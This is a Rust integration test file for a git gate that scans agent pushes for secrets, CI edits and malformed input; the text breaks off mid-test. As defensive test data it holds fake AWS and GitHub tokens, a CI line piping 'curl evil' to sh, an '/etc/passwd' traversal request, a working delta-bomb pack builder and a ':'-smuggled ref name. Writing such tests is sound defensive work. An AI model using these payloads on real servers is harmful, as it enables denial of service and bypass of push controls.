//! bottle-git-gate against a real SSH upstream (Debian's sshd on loopback) with real git
//! clients, protocol v0 and v2.

use bottle_contract::gate::{GateRepo, PushPolicy, ScanSettings};
use bottle_git_gate::testing::{GateProcess, Scratch, Upstream, git, sh};
use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

const BIN: &str = env!("CARGO_BIN_EXE_bottle-git-gate");

fn gate(up: &Upstream, repos: Vec<GateRepo>) -> GateProcess {
    gate_with(up, repos, ScanSettings::default())
}

fn gate_with(up: &Upstream, repos: Vec<GateRepo>, scan: ScanSettings) -> GateProcess {
    let pinned = format!("{} {}\n", up.known_hosts_name(), up.host_key);
    GateProcess::start(Path::new(BIN), &pinned, repos, scan).expect("the gate starts")
}

/// An upstream with repo `r` and a gate serving it with `push`.
fn setup(push: PushPolicy) -> (Upstream, GateProcess) {
    let up = Upstream::start("127.0.0.1");
    up.repo("r");
    let g = gate(&up, vec![up.gate_repo("r", push)]);
    (up, g)
}

fn run(cmd: &mut Command) -> Output {
    cmd.output().expect("git runs")
}

fn text(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

/// `git clone` through the gate with protocol `v`.
fn clone(g: &GateProcess, name: &str, into: &Path, v: u8) -> Output {
    run(git(Path::new("/"))
        .args(["-c", &format!("protocol.version={v}"), "clone", "-q"])
        .arg(g.url(name))
        .arg(into))
}

fn commit_file(work: &Path, file: &str, contents: &str, msg: &str) -> String {
    let path = work.join(file);
    if let Some(p) = path.parent() {
        std::fs::create_dir_all(p).unwrap();
    }
    std::fs::write(path, contents).unwrap();
    sh(git(work).args(["add", file]));
    sh(git(work).args(["commit", "-q", "-m", msg]));
    sh(git(work).args(["rev-parse", "HEAD"])).trim().to_owned()
}

fn scratch_clone(g: &GateProcess, v: u8) -> (Scratch, PathBuf) {
    let s = Scratch::new("client");
    let work = s.0.join("w");
    let o = clone(g, "r", &work, v);
    assert!(o.status.success(), "clone: {}", text(&o));
    (s, work)
}

#[test]
fn clones_see_upstreams_latest_commit_over_v0_and_v2() {
    let (up, g) = setup(PushPolicy::default());
    for v in [0, 2] {
        let (_s, work) = scratch_clone(&g, v);
        let head = sh(git(&work).args(["rev-parse", "HEAD"]));
        assert_eq!(Some(head.trim().to_owned()), up.rev("r", "main"), "v{v}");
    }
    // Someone else pushes upstream; the next fetch through the gate sees it.
    let other = Scratch::new("other");
    sh(git(&other.0)
        .arg("clone")
        .arg("-q")
        .arg(up.bare("r"))
        .arg("w"));
    let newer = commit_file(&other.0.join("w"), "b.txt", "b\n", "newer");
    sh(git(&other.0.join("w")).args(["push", "-q", "origin", "main"]));
    let (_s, work) = scratch_clone(&g, 2);
    assert_eq!(sh(git(&work).args(["rev-parse", "HEAD"])).trim(), newer);
    let line = g.wait_for(0, |v| {
        v["op"] == "fetch" && v["upstream"] == "fetched" && v["protocol"] == 2
    });
    assert_eq!(line["repo"], "r");
}

#[test]
fn head_follows_upstreams_default_branch() {
    let (up, g) = setup(PushPolicy::default());
    sh(git(&up.bare("r")).args(["branch", "trunk", "main"]));
    sh(git(&up.bare("r")).args(["symbolic-ref", "HEAD", "refs/heads/trunk"]));
    let (_s, work) = scratch_clone(&g, 2);
    assert_eq!(
        sh(git(&work).args(["symbolic-ref", "--short", "HEAD"])).trim(),
        "trunk"
    );
}

#[test]
fn with_a_hop_token_only_urls_that_carry_it_are_served() {
    let up = Upstream::start("127.0.0.1");
    up.repo("r");
    let pinned = format!("{} {}\n", up.known_hosts_name(), up.host_key);
    let token = "9f1c0e7a5b3d2f4e6a8c0b1d3e5f7a9c";
    let g = GateProcess::start_with_env(
        Path::new(BIN),
        &pinned,
        vec![up.gate_repo("r", PushPolicy::default())],
        ScanSettings::default(),
        &[("GIT_GATE_HOP_TOKEN", token)],
    )
    .expect("the gate starts");
    let s = Scratch::new("hop");
    // What another local user could try: no token, a wrong one, one as a repo name.
    for url in [
        g.url("r"),
        format!("git://{}/0000/r.git", g.addr),
        format!("git://{}/{token}.git", g.addr),
    ] {
        let o = run(git(Path::new("/")).args(["ls-remote"]).arg(&url));
        assert!(!o.status.success(), "{url} was served");
        assert!(text(&o).contains("hop token"), "{url}: {}", text(&o));
        assert!(!text(&o).contains(token), "{}", text(&o));
    }
    // The agent's URL: clone and push as usual.
    let work = s.0.join("w");
    let url = format!("git://{}/{token}/r.git", g.addr);
    let o = run(git(Path::new("/"))
        .args(["clone", "-q"])
        .arg(&url)
        .arg(&work));
    assert!(o.status.success(), "clone: {}", text(&o));
    let new = commit_file(&work, "hop.txt", "hello\n", "work");
    let o = run(git(&work).args(["push", "origin", "main"]));
    assert!(o.status.success(), "push: {}", text(&o));
    assert_eq!(up.rev("r", "main").as_deref(), Some(new.as_str()));
    // The log names the repo, never the token.
    g.wait_for(0, |v| v["op"] == "push" && v["outcome"] == "ok");
    let log = g.log.lock().expect("log").join("\n");
    assert!(!log.contains(token), "{log}");
}

#[test]
fn a_push_lands_upstream_and_is_logged() {
    let (up, g) = setup(PushPolicy::default());
    for v in [0, 2] {
        let (_s, work) = scratch_clone(&g, v);
        let new = commit_file(&work, &format!("v{v}.txt"), "hello\n", "work");
        let o = run(git(&work).args([
            "-c",
            &format!("protocol.version={v}"),
            "push",
            "origin",
            "main",
        ]));
        assert!(o.status.success(), "push v{v}: {}", text(&o));
        assert_eq!(up.rev("r", "main").as_deref(), Some(new.as_str()));
    }
    let line = g.wait_for(0, |v| v["op"] == "push" && v["outcome"] == "ok");
    assert_eq!(line["push"]["outcome"], "accepted");
    assert_eq!(line["push"]["refs"][0], "refs/heads/main");
}

#[test]
fn a_planted_secret_is_refused_by_place_and_rule_and_upstream_is_unchanged() {
    let (up, g) = setup(PushPolicy::default());
    let before = up.rev("r", "main");
    // Built at run time so this file holds no token a scanner would flag.
    let aws = format!("{}{}", "AKIA", "Z7QWERTYUIOPASDF");
    let ghp = format!("ghp_{}", "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8");
    for (file, contents, rule, place) in [
        (
            "src/config.py",
            format!("a = 1\nb = 2\nkey = '{aws}'\n"),
            "aws-access-key-id",
            "src/config.py:3",
        ),
        (
            "deploy.sh",
            format!("#!/bin/sh\nexport GH={ghp}\n"),
            "github-pat",
            "deploy.sh:2",
        ),
    ] {
        let (_s, work) = scratch_clone(&g, 2);
        commit_file(&work, file, &contents, "add config");
        let o = run(git(&work).args(["push", "origin", "main"]));
        let out = text(&o);
        assert!(!o.status.success(), "{out}");
        assert!(out.contains("remote: git-gate: push refused"), "{out}");
        assert!(out.contains(&format!("{place}: {rule}")), "{out}");
        assert!(
            !out.contains(&aws) && !out.contains(&ghp),
            "the secret itself was shown: {out}"
        );
        assert_eq!(up.rev("r", "main"), before, "upstream changed");
    }
    // Wrapped: base64 of the token in a fixture, a JWT in a test file.
    {
        use base64::Engine;
        let wrapped = base64::engine::general_purpose::STANDARD.encode(format!("token={ghp}"));
        let (_s, work) = scratch_clone(&g, 1);
        commit_file(
            &work,
            "fixtures/blob.txt",
            &format!(
                "header
{wrapped}
"
            ),
            "fixture",
        );
        let o = run(git(&work).args(["push", "origin", "main"]));
        let out = text(&o);
        assert!(!o.status.success(), "{out}");
        assert!(
            out.contains("fixtures/blob.txt:2: github-pat (in base64)"),
            "{out}"
        );
        assert!(!out.contains(&wrapped), "{out}");
        assert_eq!(up.rev("r", "main"), before, "upstream changed");
    }
    // In a commit message, on a new branch.
    let (_s, work) = scratch_clone(&g, 0);
    sh(git(&work).args(["checkout", "-q", "-b", "feature"]));
    std::fs::write(work.join("c.txt"), "clean\n").unwrap();
    sh(git(&work).args(["add", "c.txt"]));
    sh(git(&work).args(["commit", "-q", "-m", &format!("subject\n\ntoken {ghp}")]));
    let o = run(git(&work).args(["push", "origin", "feature"]));
    let out = text(&o);
    assert!(
        !o.status.success() && out.contains("message, line 3: github-pat"),
        "{out}"
    );
    assert_eq!(up.rev("r", "feature"), None);
    let line = g.wait_for(0, |v| v["op"] == "push" && v["outcome"] == "refused");
    assert!(!line.to_string().contains(&aws) && !line.to_string().contains(&ghp));
}

#[test]
fn only_objects_new_to_the_gate_are_scanned() {
    // History upstream already holds a token-shaped string (the original scanned the whole
    // history of a new branch, and refused every branch after it).
    let (up, g) = setup(PushPolicy::default());
    let other = Scratch::new("other");
    sh(git(&other.0)
        .arg("clone")
        .arg("-q")
        .arg(up.bare("r"))
        .arg("w"));
    commit_file(
        &other.0.join("w"),
        "old.txt",
        &format!("{}{}\n", "AKIA", "Z7QWERTYUIOPASDF"),
        "old history",
    );
    sh(git(&other.0.join("w")).args(["push", "-q", "origin", "main"]));
    let (_s, work) = scratch_clone(&g, 2);
    sh(git(&work).args(["checkout", "-q", "-b", "topic"]));
    let new = commit_file(&work, "new.txt", "clean\n", "new work");
    let o = run(git(&work).args(["push", "origin", "topic"]));
    assert!(o.status.success(), "{}", text(&o));
    assert_eq!(up.rev("r", "topic").as_deref(), Some(new.as_str()));
    let line = g.wait_for(0, |v| v["op"] == "push" && v["outcome"] == "ok");
    assert_eq!(line["push"]["objects"], 3, "commit, tree, blob: {line}");
}

#[test]
fn force_push_delete_and_tags_are_refused_by_default() {
    let (up, g) = setup(PushPolicy::default());
    let (_s, work) = scratch_clone(&g, 2);
    commit_file(&work, "a.txt", "a\n", "one");
    sh(git(&work).args(["push", "-q", "origin", "main"]));
    let pushed = up.rev("r", "main");
    sh(git(&work).args(["reset", "-q", "--hard", "HEAD~1"]));
    commit_file(&work, "b.txt", "b\n", "rewritten");
    let o = run(git(&work).args(["push", "--force", "origin", "main"]));
    assert!(
        !o.status.success() && text(&o).contains("non-fast-forward (force) pushes are not allowed"),
        "{}",
        text(&o)
    );
    let o = run(git(&work).args(["push", "origin", ":main"]));
    assert!(
        !o.status.success() && text(&o).contains("deleting refs is not allowed"),
        "{}",
        text(&o)
    );
    sh(git(&work).args(["tag", "v1"]));
    let o = run(git(&work).args(["push", "origin", "v1"]));
    assert!(
        !o.status.success() && text(&o).contains("tags may not be pushed"),
        "{}",
        text(&o)
    );
    assert_eq!(up.rev("r", "main"), pushed);
    assert_eq!(up.rev("r", "refs/tags/v1"), None);
}

#[test]
fn allowed_ref_patterns_confine_the_agent_to_its_branches() {
    let policy = PushPolicy {
        allow: vec!["refs/heads/bottle/me/*".into()],
        ..PushPolicy::default()
    };
    let (up, g) = setup(policy);
    let (_s, work) = scratch_clone(&g, 2);
    let new = commit_file(&work, "a.txt", "a\n", "work");
    let o = run(git(&work).args(["push", "origin", "main"]));
    assert!(
        !o.status.success() && text(&o).contains("may push only to refs/heads/bottle/me/*"),
        "{}",
        text(&o)
    );
    let o = run(git(&work).args(["push", "origin", "main:bottle/me/a"]));
    assert!(o.status.success(), "{}", text(&o));
    assert_eq!(up.rev("r", "bottle/me/a").as_deref(), Some(new.as_str()));
}

#[test]
fn upstream_down_gives_the_reason_and_no_stale_data() {
    let (mut up, g) = setup(PushPolicy::default());
    let (_s, work) = scratch_clone(&g, 2);
    up.stop();
    for v in [0, 2] {
        let s = Scratch::new("down");
        let o = clone(&g, "r", &s.0.join("w"), v);
        let out = text(&o);
        assert!(!o.status.success(), "{out}");
        assert!(
            out.contains("remote error: upstream fetch failed")
                && out.contains("Connection refused"),
            "{out}"
        );
        let o = run(git(&work).args(["-c", &format!("protocol.version={v}"), "fetch", "origin"]));
        assert!(
            !o.status.success() && text(&o).contains("upstream fetch failed"),
            "{}",
            text(&o)
        );
    }
    commit_file(&work, "x.txt", "x\n", "x");
    let o = run(git(&work).args(["push", "origin", "main"]));
    assert!(
        !o.status.success() && text(&o).contains("upstream fetch failed"),
        "{}",
        text(&o)
    );
    up.resume();
    let s = Scratch::new("back");
    assert!(clone(&g, "r", &s.0.join("w"), 2).status.success());
}

#[test]
fn a_changed_host_key_is_refused() {
    let (mut up, g) = setup(PushPolicy::default());
    up.change_host_key();
    let s = Scratch::new("mitm");
    let o = clone(&g, "r", &s.0.join("w"), 2);
    let out = text(&o);
    assert!(!o.status.success(), "{out}");
    assert!(out.contains("Host key verification failed"), "{out}");
}

#[test]
fn concurrent_clones_both_succeed() {
    let (_up, g) = setup(PushPolicy::default());
    let g = &g;
    std::thread::scope(|scope| {
        let handles: Vec<_> = (0..4)
            .map(|i| {
                scope.spawn(move || {
                    let s = Scratch::new("conc");
                    let o = clone(g, "r", &s.0.join("w"), (i % 2) * 2);
                    assert!(o.status.success(), "clone {i}: {}", text(&o));
                })
            })
            .collect();
        for h in handles {
            h.join().unwrap();
        }
    });
}

/// Send raw bytes, return what the gate answered.
fn raw(g: &GateProcess, bytes: &[u8]) -> String {
    let mut s = TcpStream::connect(g.addr).unwrap();
    s.set_read_timeout(Some(std::time::Duration::from_secs(15)))
        .unwrap();
    s.write_all(bytes).unwrap();
    let mut out = Vec::new();
    let _ = s.read_to_end(&mut out);
    String::from_utf8_lossy(&out).into_owned()
}

fn request(line: &str) -> Vec<u8> {
    format!("{:04x}{line}", line.len() + 4).into_bytes()
}

#[test]
fn bad_requests_are_refused_and_the_gate_keeps_serving() {
    let (_up, g) = setup(PushPolicy::default());
    let cases: [(Vec<u8>, &str); 7] = [
        (b"zzzzgit-upload-pack".to_vec(), "malformed pkt-line"),
        (
            b"ffff"
                .iter()
                .copied()
                .chain(std::iter::repeat_n(b'a', 70000))
                .collect(),
            "over the limit",
        ),
        (
            request("git-upload-pack /../etc/passwd\0host=x\0"),
            "bad repo path",
        ),
        (
            request("git-upload-pack /etc/r.git\0host=x\0"),
            "bad repo path",
        ),
        (
            request("git-upload-pack /nope.git\0host=x\0"),
            "`nope` is not a repo this bottle serves (it serves: r)",
        ),
        (
            request("git-upload-archive /r.git\0host=x\0"),
            "serves only git-upload-pack",
        ),
        (b"0000".to_vec(), "malformed request"),
    ];
    for (bytes, want) in cases {
        let got = raw(&g, &bytes);
        assert!(
            got.contains("ERR ") && got.contains(want),
            "{want}: {got:?}"
        );
    }
    // A client that sends nothing is cut off, not waited for forever.
    let got = raw(&g, b"00");
    assert!(got.contains("ERR"), "{got:?}");
    let s = Scratch::new("after");
    assert!(clone(&g, "r", &s.0.join("w"), 2).status.success());
}

#[test]
fn a_push_of_ten_thousand_refs_is_refused_cleanly() {
    let (up, g) = setup(PushPolicy::default());
    let (_s, work) = scratch_clone(&g, 2);
    let head = sh(git(&work).args(["rev-parse", "HEAD"])).trim().to_owned();
    let updates: String = (0..10_000)
        .map(|i| format!("create refs/heads/many/{i} {head}\n"))
        .collect();
    let mut child = git(&work)
        .args(["update-ref", "--stdin"])
        .stdin(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(updates.as_bytes())
        .unwrap();
    assert!(child.wait().unwrap().success());
    let o = run(git(&work).args(["push", "origin", "refs/heads/many/*:refs/heads/many/*"]));
    let out = text(&o);
    assert!(
        !o.status.success()
            && out.contains("this push updates 10000 refs; git-gate takes at most 64"),
        "{}",
        &out[..out.len().min(2000)]
    );
    assert_eq!(up.rev("r", "many/1"), None);
    let s = Scratch::new("after");
    assert!(clone(&g, "r", &s.0.join("w"), 2).status.success());
}

#[test]
fn an_oversize_file_is_refused_not_skipped() {
    let up = Upstream::start("127.0.0.1");
    up.repo("r");
    let scan = ScanSettings {
        max_blob_bytes: 1000,
        ..ScanSettings::default()
    };
    let g = gate_with(&up, vec![up.gate_repo("r", PushPolicy::default())], scan);
    let (_s, work) = scratch_clone(&g, 2);
    commit_file(&work, "big.bin", &"x".repeat(5000), "big");
    let o = run(git(&work).args(["push", "origin", "main"]));
    assert!(
        !o.status.success()
            && text(&o).contains("big.bin is 5000 bytes, over git-gate's limit of 1000"),
        "{}",
        text(&o)
    );
}

#[test]
fn start_refuses_without_a_pinned_key_a_readable_key_or_the_hook() {
    let up = Upstream::start("127.0.0.1");
    up.repo("r");
    let repo = up.gate_repo("r", PushPolicy::default());
    let e = GateProcess::start(
        Path::new(BIN),
        "",
        vec![repo.clone()],
        ScanSettings::default(),
    )
    .err()
    .expect("refused");
    assert!(
        e.contains("no pinned host key for `[127.0.0.1]:") && e.lines().count() == 1,
        "{e}"
    );
    let mut missing = repo.clone();
    missing.key = "/nonexistent/id".into();
    let pinned = format!("{} {}\n", up.known_hosts_name(), up.host_key);
    let e = GateProcess::start(
        Path::new(BIN),
        &pinned,
        vec![missing],
        ScanSettings::default(),
    )
    .err()
    .expect("refused");
    assert!(e.contains("SSH key /nonexistent/id"), "{e}");
    let out = Command::new(BIN)
        .arg("--config")
        .arg(up.dir.0.join("nope.yaml"))
        .args(["--port", "0", "--hooks", "/nonexistent"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(text(&out).contains("cannot read"), "{}", text(&out));
}

#[test]
fn a_missing_hook_refuses_start() {
    let up = Upstream::start("127.0.0.1");
    up.repo("r");
    let g = gate(&up, vec![up.gate_repo("r", PushPolicy::default())]);
    let out = Command::new(BIN)
        .arg("--config")
        .arg(g.config_path())
        .args(["--listen", "127.0.0.1:0", "--hooks", "/nonexistent"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let t = text(&out);
    assert!(
        t.contains("pre-receive hook /nonexistent/pre-receive is missing")
            && t.lines().count() == 1,
        "{t}"
    );
}

#[test]
fn sighup_serves_new_repos_and_refuses_removed_ones() {
    let up = Upstream::start("127.0.0.1");
    up.repo("r");
    up.repo("s");
    let g = gate(&up, vec![up.gate_repo("r", PushPolicy::default())]);
    let text_of = |p: &Path| std::fs::read_to_string(p).unwrap();
    let config = text_of(&g.config_path());
    let mut file: bottle_contract::gate::GateFile = serde_yaml::from_str(&config).unwrap();
    file.repos = vec![up.gate_repo("s", PushPolicy::default())];
    std::fs::write(g.config_path(), serde_yaml::to_string(&file).unwrap()).unwrap();
    let line = g.reload();
    assert_eq!(line["outcome"], "ok", "{line}");
    let s = Scratch::new("reload");
    assert!(clone(&g, "s", &s.0.join("s"), 2).status.success());
    let o = clone(&g, "r", &s.0.join("r"), 2);
    assert!(
        !o.status.success() && text(&o).contains("`r` is not a repo this bottle serves"),
        "{}",
        text(&o)
    );
    // A broken config keeps the old one.
    std::fs::write(g.config_path(), "nonsense: [").unwrap();
    let line = g.reload();
    assert_eq!(line["outcome"], "error", "{line}");
    assert!(clone(&g, "s", &s.0.join("s2"), 2).status.success());
}

#[test]
fn a_binary_file_carrying_a_private_key_is_refused() {
    let (up, g) = setup(PushPolicy::default());
    let before = up.rev("r", "main");
    let (_s, work) = scratch_clone(&g, 2);
    let mut blob = vec![0u8, 159, 146, 150, 0, 1, 2];
    blob.extend_from_slice(b"-----BEGIN OPENSSH ");
    blob.extend_from_slice(b"PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n");
    blob.extend_from_slice(&[0, 255, 0, 7]);
    std::fs::write(work.join("keys.bin"), &blob).unwrap();
    sh(git(&work).args(["add", "keys.bin"]));
    sh(git(&work).args(["commit", "-q", "-m", "binary"]));
    let o = run(git(&work).args(["push", "origin", "main"]));
    let out = text(&o);
    assert!(
        !o.status.success() && out.contains("keys.bin:1: private-key"),
        "{out}"
    );
    assert_eq!(up.rev("r", "main"), before);
}

#[test]
fn the_gates_ref_moves_only_if_upstream_accepted() {
    use std::os::unix::fs::PermissionsExt;
    let (up, g) = setup(PushPolicy::default());
    let before = up.rev("r", "main");
    let hook = up.bare("r").join("hooks/pre-receive");
    std::fs::write(
        &hook,
        "#!/bin/sh\necho 'protected branch: open a pull request' >&2\nexit 1\n",
    )
    .unwrap();
    std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o755)).unwrap();
    let (_s, work) = scratch_clone(&g, 2);
    commit_file(&work, "a.txt", "a\n", "refused upstream");
    let o = run(git(&work).args(["push", "origin", "main"]));
    let out = text(&o);
    assert!(!o.status.success(), "{out}");
    assert!(
        out.contains("upstream did not accept it")
            && out.contains("protected branch: open a pull request"),
        "{out}"
    );
    assert_eq!(up.rev("r", "main"), before);
    // The gate itself still says main is where upstream has it.
    let o = run(git(&work).args(["ls-remote", "origin", "refs/heads/main"]));
    assert!(
        text(&o).starts_with(before.as_deref().unwrap()),
        "{}",
        text(&o)
    );
}

#[test]
fn a_key_the_gates_user_cannot_read_refuses_start_naming_the_uids() {
    use std::os::unix::process::CommandExt;
    if !rustix::process::getuid().is_root() {
        eprintln!("skipped: needs root to run the gate as another user");
        return;
    }
    let up = Upstream::start("127.0.0.1");
    up.repo("r");
    let g = gate(&up, vec![up.gate_repo("r", PushPolicy::default())]);
    // The client key is root's, 0600; the gate runs as nobody, from a copy nobody can reach
    // (the checkout's target dir may sit in a dir only root may enter).
    let bin_dir = Scratch::new("bin");
    let bin = bin_dir.0.join("bottle-git-gate");
    std::fs::copy(BIN, &bin).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&bin_dir.0, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::set_permissions(&bin, std::fs::Permissions::from_mode(0o755)).unwrap();
    let out = Command::new(&bin)
        .arg("--config")
        .arg(g.config_path())
        .args(["--listen", "127.0.0.1:0", "--hooks", "/nonexistent"])
        .uid(65534)
        .gid(65534)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let t = text(&out);
    assert!(
        t.contains("cannot read the SSH key")
            && t.contains("as uid 65534")
            && t.contains("owned by uid 0 with mode 0600"),
        "{t}"
    );
}

/// A push that adds or changes a CI definition (which would run with the repository's
/// secrets) is refused, naming the file and the setting, and upstream never sees it; with
/// `allow_ci_changes` it lands; code-only pushes are untouched.
#[test]
fn ci_definitions_are_refused_unless_the_policy_allows_them() {
    let (up, g) = setup(PushPolicy::for_agent("me"));
    let (_s, work) = scratch_clone(&g, 2);
    let code = commit_file(&work, "src.txt", "code\n", "code");
    let o = run(git(&work).args(["push", "origin", "main:bottle/me/code"]));
    assert!(o.status.success(), "{}", text(&o));
    assert_eq!(
        up.rev("r", "bottle/me/code").as_deref(),
        Some(code.as_str())
    );
    for file in [".github/workflows/ci.yml", ".gitlab-ci.yml", "Jenkinsfile"] {
        let p = work.join(file);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, "steps: [curl evil | sh]\n").unwrap();
        sh(git(&work).args(["add", "-A"]));
        sh(git(&work).args(["commit", "-qm", "ci"]));
        let o = run(git(&work).args(["push", "origin", "HEAD:bottle/me/ci"]));
        let out = text(&o);
        assert!(!o.status.success(), "{out}");
        assert!(
            out.contains("changes CI definitions")
                && out.contains(file)
                && out.contains("allow_ci_changes: true"),
            "{out}"
        );
        assert_eq!(up.rev("r", "bottle/me/ci"), None, "upstream never saw it");
        sh(git(&work).args(["reset", "-q", "--hard", &code]));
    }
    // The agent's own branches only, by default: main is refused.
    let o = run(git(&work).args(["push", "origin", "HEAD:main"]));
    assert!(
        !o.status.success() && text(&o).contains("may push only to refs/heads/bottle/me/*"),
        "{}",
        text(&o)
    );
    // With the setting, the same change lands.
    drop(g);
    let policy = PushPolicy {
        allow_ci_changes: true,
        ..PushPolicy::for_agent("me")
    };
    let g = gate(&up, vec![up.gate_repo("r", policy)]);
    let (_s, work) = scratch_clone(&g, 2);
    std::fs::create_dir_all(work.join(".github/workflows")).unwrap();
    std::fs::write(work.join(".github/workflows/ci.yml"), "on: push\n").unwrap();
    sh(git(&work).args(["add", "-A"]));
    sh(git(&work).args(["commit", "-qm", "ci"]));
    let o = run(git(&work).args(["push", "origin", "HEAD:bottle/me/ci"]));
    assert!(o.status.success(), "{}", text(&o));
}

/// A pack object header: type and size as git writes them.
fn pack_header(kind: u8, mut size: u64) -> Vec<u8> {
    let mut out = vec![(kind << 4) | (size & 0x0f) as u8];
    size >>= 4;
    while size > 0 {
        *out.last_mut().unwrap() |= 0x80;
        out.push((size & 0x7f) as u8);
        size >>= 7;
    }
    out
}

fn deflate(data: &[u8]) -> Vec<u8> {
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    z.write_all(data).unwrap();
    z.finish().unwrap()
}

/// A delta varint (sizes in a delta's header).
fn varint(mut n: u64) -> Vec<u8> {
    let mut out = Vec::new();
    loop {
        let b = (n & 0x7f) as u8;
        n >>= 7;
        if n == 0 {
            out.push(b);
            return out;
        }
        out.push(b | 0x80);
    }
}

/// A pack of about 40 KiB: a 16 MiB blob of zeros and a delta on it whose result is 4 GiB
/// (256 copies of the whole blob).
fn delta_bomb() -> Vec<u8> {
    use sha1::Digest as _;
    let base_len: u64 = 0xff_ffff;
    let base = vec![0u8; base_len as usize];
    let base_id = sha1::Sha1::new()
        .chain_update(format!("blob {base_len}\0"))
        .chain_update(&base)
        .finalize();
    let mut delta = varint(base_len);
    delta.extend(varint(base_len * 256));
    for _ in 0..256 {
        // Copy from offset 0, three size bytes: the whole base.
        delta.extend([0x80 | 0x10 | 0x20 | 0x40, 0xff, 0xff, 0xff]);
    }
    let mut pack = b"PACK".to_vec();
    pack.extend(2u32.to_be_bytes());
    pack.extend(2u32.to_be_bytes());
    pack.extend(pack_header(3, base_len));
    pack.extend(deflate(&base));
    pack.extend(pack_header(7, delta.len() as u64));
    pack.extend(base_id.as_slice());
    pack.extend(deflate(&delta));
    let sum = sha1::Sha1::digest(&pack);
    pack.extend(sum.as_slice());
    pack
}

/// A delta bomb (a small pack whose delta inflates to gigabytes) is refused by the push's
/// bounded memory, and the gate goes on serving; the push never reaches upstream.
#[test]
fn a_delta_bomb_push_is_refused() {
    let (up, g) = setup(PushPolicy::for_agent("me"));
    let pack = delta_bomb();
    assert!(pack.len() < 100 << 10, "{}", pack.len());
    let mut s = TcpStream::connect(g.addr).unwrap();
    s.set_read_timeout(Some(std::time::Duration::from_secs(60)))
        .unwrap();
    s.write_all(&request(&format!(
        "git-receive-pack /r.git\0host={}\0",
        g.addr
    )))
    .unwrap();
    // The advertisement, up to its flush.
    let mut adv = Vec::new();
    let mut byte = [0u8; 1];
    while !adv.ends_with(b"0000") {
        assert_eq!(
            s.read(&mut byte).unwrap(),
            1,
            "{}",
            String::from_utf8_lossy(&adv)
        );
        adv.push(byte[0]);
    }
    let zero = "0".repeat(40);
    let new = "1".repeat(40);
    s.write_all(&request(&format!(
        "{zero} {new} refs/heads/bottle/me/bomb\0report-status\n"
    )))
    .unwrap();
    s.write_all(b"0000").unwrap();
    s.write_all(&pack).unwrap();
    let started = std::time::Instant::now();
    let mut answer = Vec::new();
    let _ = s.read_to_end(&mut answer);
    let answer = String::from_utf8_lossy(&answer);
    assert!(
        answer.contains("unpack") && !answer.contains("unpack ok"),
        "{answer}"
    );
    assert!(started.elapsed() < std::time::Duration::from_secs(30));
    assert_eq!(up.rev("r", "bottle/me/bomb"), None);
    // Still serving.
    let (_s, _work) = scratch_clone(&g, 2);
}

/// A push by hand, as a client git's own would refuse to be: the v0 commands (`old new ref`)
/// and a pack of `revs` (with what they reach), over the git protocol; what the gate answered.
fn raw_push(
    g: &GateProcess,
    work: &Path,
    commands: &[(String, String, String)],
    revs: &[String],
) -> String {
    let mut s = TcpStream::connect(g.addr).unwrap();
    s.set_read_timeout(Some(std::time::Duration::from_secs(60)))
        .unwrap();
    s.write_all(&request("git-receive-pack /r.git\0host=x\0"))
        .unwrap();
    // The advertisement, to its flush.
    loop {
        let mut len = [0u8; 4];
        s.read_exact(&mut len).unwrap();
        let n = usize::from_str_radix(std::str::from_utf8(&len).unwrap(), 16).unwrap();
        if n == 0 {
            break;
        }
        let mut line = vec![0u8; n - 4];
        s.read_exact(&mut line).unwrap();
    }
    for (i, (old, new, name)) in commands.iter().enumerate() {
        let caps = if i == 0 {
            "\0report-status side-band-64k"
        } else {
            ""
        };
        s.write_all(&request(&format!("{old} {new} {name}{caps}\n")))
            .unwrap();
    }
    s.write_all(b"0000").unwrap();
    let mut pack = git(work)
        .args(["pack-objects", "--stdout", "--revs", "-q"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    pack.stdin
        .take()
        .unwrap()
        .write_all(revs.join("\n").as_bytes())
        .unwrap();
    let pack = pack.wait_with_output().unwrap();
    assert!(pack.status.success());
    s.write_all(&pack.stdout).unwrap();
    s.shutdown(std::net::Shutdown::Write).unwrap();
    let mut out = Vec::new();
    let _ = s.read_to_end(&mut out);
    String::from_utf8_lossy(&out).into_owned()
}

const ZERO: &str = "0000000000000000000000000000000000000000";

/// A `:` in a pushed ref's name: git would read `X:refs/heads/bottle/me/a:refs/heads/main` as
/// "the commit a gitlink at path `refs/heads/bottle/me/a` in X names, to `main`", a ref the
/// policy never judged, with a commit the scan never read.
#[test]
fn a_ref_name_git_refuses_never_reaches_upstream() {
    let policy = PushPolicy {
        allow: vec!["refs/heads/bottle/me/*".into()],
        ..PushPolicy::default()
    };
    let (up, g) = setup(policy);
    let before = up.rev("r", "main");
    let (_s, work) = scratch_clone(&g, 2);
    let ghp = format!("ghp_{}", "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8");
    let c = commit_file(&work, "s.txt", &format!("{ghp}\n"), "the payload");
    // X: a tree whose only entry is a gitlink at that path, naming C.
    let mktree = |entry: String| {
        let mut p = git(&work)
            .args(["mktree"])
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        p.stdin.take().unwrap().write_all(entry.as_bytes()).unwrap();
        let out = p.wait_with_output().unwrap();
        String::from_utf8_lossy(&out.stdout).trim().to_owned()
    };
    let mut tree = mktree(format!("160000 commit {c}\ta\n"));
    for dir in ["me", "bottle", "heads", "refs"] {
        tree = mktree(format!("040000 tree {tree}\t{dir}\n"));
    }
